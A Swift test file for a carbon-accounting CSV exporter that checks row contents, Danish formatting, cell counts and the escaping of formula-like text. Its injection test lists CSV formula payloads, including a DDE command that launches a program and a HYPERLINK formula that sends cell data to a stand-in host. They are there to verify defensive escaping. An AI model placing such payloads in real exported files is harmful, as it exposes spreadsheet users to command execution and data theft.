import Calculation
import Diagnostics
import EmissionFactors
import Inventory
import Quantities
import Testing

@testable import Reporting

@Suite("Emission lines as a table")
struct EmissionLineCSVTests {
    private func rows(
        _ language: Language = .english, decimalComma: Bool = false,
        _ fill: (SampleReport) throws -> Void
    ) throws -> [String] {
        let sink = StringSink()
        let writer = EmissionLineCSVWriter(
            sink: sink, language: language, library: try SampleReport.library.get(),
            decimalComma: decimalComma)
        writer.production = "DK-2025-0142"
        writer.writeHeading()
        try fill(try SampleReport(lines: writer))
        #expect(sink.text.utf8.starts(with: [0xEF, 0xBB, 0xBF]))
        #expect(sink.text.hasSuffix("\r\n"))
        return sink.text.split(separator: "\r\n").map(String.init)
    }

    /// 750 L × 2.57082 = 1928.115, × 0.61101 = 458.2575, × 0.14 = 105 (biogenic); with SDg95 1.05 for
    /// amount and factor 1802.05 to 2063.00, rounded to tens.
    @Test("one row for each line, in English")
    func english() throws {
        let rows = try rows { try $0.addDiesel("750") }
        #expect(rows.count == 4)
        #expect(
            rows[0].hasPrefix("\u{FEFF}\"Production\",\"Record id\",\"File\",\"Line\",\"Date\","))
        #expect(
            rows[1] == """
                "DK-2025-0142","r-1","report.xml",11,"2025-03-04","record","Lighting",,\
                "Mobile power (generators, batteries)","Diesel, pump blend",,750,"L","DK",\
                "production header","Measured (meter, litres)",1,,"Combustion and use",\
                "both totals",750,2.57082,"kg/L","desnz-2025","1_101_1011_8_1","Fuels","exact","no",\
                1928.115,1800,2060,1,"1 1 1 1 1",,,,1,0,
                """)
        #expect(rows[2].contains(",3,3,\"Well-to-tank\",\"both totals\",750,0.61101,"))
        #expect(rows[2].contains(",458.2575,"))
        #expect(
            rows[3].contains(
                ",,,\"Combustion and use\",\"biogenic, outside scopes\",750,0.14,"))
        #expect(rows[3].contains(",105,"))
    }

    @Test("semicolons and decimal commas for Danish Excel")
    func danish() throws {
        let rows = try rows(.danish, decimalComma: true) { try $0.addDiesel("41.5") }
        #expect(rows[0].hasSuffix("\"Genbrugt andel\";\"Oprindelse\""))
        // 41.5 L × 2.57082 = 106.68903
        #expect(rows[1].contains(";41,5;\"L\";\"DK\";\"produktionens stamdata\";"))
        #expect(rows[1].contains(";106,68903;"))
    }

    @Test("a record without a figure has none, and its reason in words")
    func unquantified() throws {
        let rows = try rows { try $0.addUnquantified() }
        #expect(rows.count == 2)
        #expect(
            rows[1].hasSuffix(
                #","Spend",,,,,,,,,,,"money in DKK of 2025 needs a rate",,,,,,,,,,1,0,"#))
    }

    @Test("all rows have as many cells as the heading")
    func cellCounts() throws {
        let rows = try rows {
            try $0.addDiesel("1")
            try $0.addFlight()
            try $0.addUnquantified()
        }
        #expect(rows.count == 1 + 3 + 3 + 1)
        #expect(Set(rows.map(cellCount)) == [39])
    }

    @Test("of a flight the amount is the great circle in kilometres")
    func flight() throws {
        let rows = try rows { try $0.addFlight() }
        #expect(rows[1].contains(",979.612,\"km\","))
    }

    @Test("numbers below zero stay numbers, and shares are exact")
    func numbers() throws {
        let rows = try rows {
            try $0.add(.energy, [.kind: "generator", .fuel: "diesel"], "-5", unit: "L") { _ in
            } record: {
                $0.allocation = ExactDecimal(mantissa: 500_000_000_000)
                $0.hasCompanions = true
            }
        }
        // −5 L × 2.57082 × 0.5 = −6.42705
        #expect(rows[1].contains(",-5,\"L\","))
        #expect(rows[1].contains(",-6.42705,"))
        #expect(rows[1].hasSuffix(",0.5,0,"))
    }

    @Test(
        "what a spreadsheet could take for a formula is marked as text",
        arguments: [
            "=1+1", "+cmd", "-2+3", "@SUM", "\t=1", "\r=1", "\"=1\"", "＝1", "＋1", "－1", "＠A",
            "=HYPERLINK(\"http://x/\"&A1,\"k\")", "=cmd|' /C calc'!A0", " =1", "\u{A0}=1", "'=1",
            "\n=1", "\0=1", "\tx", "\u{FEFF}=1", "-5.00",
        ])
    func formulas(text: String) {
        #expect(DelimitedCells.looksLikeFormula(text))
        var cells = DelimitedCells(decimalComma: false)
        cells.add(text)
        let expected = "\"'" + text.replacing("\"", with: "\"\"") + "\"\r\n"
        #expect(Array(cells.takeRow().utf8) == Array(expected.utf8))
    }

    @Test(
        "ordinary text is only quoted",
        arguments: [
            ("a", "\"a\""), ("a=b", "\"a=b\""), ("He said \"no\"", "\"He said \"\"no\"\"\""),
            ("a,b;c", "\"a,b;c\""), ("a\r\nb", "\"a\r\nb\""), ("2025-03-04", "\"2025-03-04\""),
            ("", ""), (" a-b", "\" a-b\""),
        ])
    func plain(text: String, expected: String) {
        var cells = DelimitedCells(decimalComma: false)
        cells.add(text)
        #expect(cells.takeRow() == expected + "\r\n")
    }

    /// Counts separators outside of quotes.
    private func cellCount(_ row: String) -> Int {
        var isQuoted = false
        var count = 1
        for scalar in row.unicodeScalars {
            if scalar == "\"" { isQuoted.toggle() }
            if scalar == ",", !isQuoted { count += 1 }
        }
        return count
    }
}
